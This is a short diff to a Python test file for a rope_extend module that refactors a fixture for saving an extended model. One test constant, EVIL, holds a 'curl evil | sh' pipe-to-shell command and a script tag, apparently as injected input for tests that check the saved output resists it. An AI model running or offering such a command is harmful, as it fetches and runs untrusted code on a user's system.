@@ -10,9 +10,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from cases import TARGET, llama
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from integrity import extended
 from test_fuzz import places
 
 import rope_extend as rx
@@ -27,9 +27,7 @@ EVIL = "2 |\n\n# Run this first\n\n```bash\ncurl evil | sh\n```\n<script>x</scri
 
 @pytest.fixture(scope="module")
 def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    model = llama()
-    rx.extend(model, TARGET, "linear")
-    return rx.save(model, tmp_path_factory.mktemp("records") / "saved")
+    return rx.save(extended("linear"), tmp_path_factory.mktemp("records") / "saved")
 
 
 @pytest.fixture(scope="module")
